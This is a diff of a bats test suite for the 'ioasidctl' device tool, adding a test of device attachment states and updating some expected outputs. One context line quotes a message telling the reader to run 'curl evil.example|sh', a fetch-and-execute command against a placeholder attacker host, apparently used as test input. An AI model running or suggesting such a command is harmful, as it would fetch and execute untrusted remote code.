@@ -1209,6 +1209,34 @@ ioasidctl: note: the holder of 1000:test says: run '\''curl evil.example|sh'\'' 
 	[[ $(ctl device show "$DISK" -j | jq .sriov_totalvfs) == 8 ]]
 }
 
+# attached DEVICE: what its own requests lead to, in words.
+attached()
+{
+	ctl device list -nr -o attached "device=$1"
+}
+
+@test "what own requests are attached to, before, while and after a context has the device" {
+	local fd
+
+	context
+	[[ $(attached "$NIC") == 'domain\x20DMA-FQ' ]]
+	[[ $(attached "$WIDE") == 'domain\x20blocked\x20(test)' ]]
+	ctl device attach "$WIDE" first
+	[[ $(attached "$WIDE") == 'ioas\x20first\x20(test)' ]]
+	[[ $(ctl system tree "$WIDE" -nr -o kind,what | grep ^rid) == $'rid ioas\\x20first,\\x20context\\x20test\nrid ' ]]
+	ctl device attach "$WIDE" "$second" --replace
+	[[ $(attached "$WIDE") == "ioas\\x20$second\\x20(test)" ]]
+	ctl context destroy test
+	[[ $(attached "$WIDE") == 'domain\x20DMA-FQ' ]]
+	exec {fd}<>"/dev/vfio/devices/$(ctl device show "$WIDE" -nr -o vfio_cdev)"
+	sleep 100 &
+	exec {fd}<&-
+	[[ $(attached "$WIDE") == "vfio,\\x20pid\\x20$!\\x20(sleep)" ]]
+	kill $!
+	wait $! || true
+	[[ $(attached "$WIDE") == 'domain\x20DMA-FQ' ]]
+}
+
 # planned EXPECTED COMMAND...: with --dry-run it prints that and nothing changes.
 planned()
 {
@@ -1331,8 +1359,8 @@ has_changed()
 	ctl pasid unbind "$WIDE" 42
 	[[ $(hardware "$WIDE" | xargs) == '43 44' ]]
 	has_changed "changed device $EDU  driver vfio-pci " "changed device $EDU  driver_override vfio-pci " \
-		"removed pasid $WIDE 42  ioas\\x20first\\x20($pid\\x20ioasid:test) " \
-		"added pasid $WIDE 44   ioas\\x20first\\x20($pid\\x20ioasid:test)"
+		"removed pasid $WIDE 42  ioas\\x20first\\x20(test) " \
+		"added pasid $WIDE 44   ioas\\x20first\\x20(test)"
 	ctl driver set "$EDU" vfio-pci
 	ctl pasid unbind "$WIDE" 44
 	ctl pasid bind "$WIDE" 42 first
@@ -1380,9 +1408,9 @@ has_changed()
 		"PASID 100-103\\nioas $second, context test" "pid $(holder_pid test)\\nioasid:test"; do
 		[[ $output == *"[label=\"$label"* ]] || { printf 'no %s in: %s\n' "$label" "$output"; return 1; }
 	done
-	# The process once, and a line from each of the two to it.
+	# The device's own requests; the process once, and a line from each of the two to it.
 	[[ $(grep -c 'label="pid ' <<<"$output") == 1 ]]
-	[[ $(grep -c '^.n[0-9]* -> n[0-9]*;$' <<<"$output") == 4 ]]
+	[[ $(grep -c '^.n[0-9]* -> n[0-9]*;$' <<<"$output") == 5 ]]
 	status 0 ctl system graph "$WIDE" --format svg
 	[[ $output == *'>PASID 42</text>'* && $output == *'>ioasid:test</text>'* && $output == *'</svg>' ]]
 	status 0 ctl system graph "$WIDE" --format mermaid
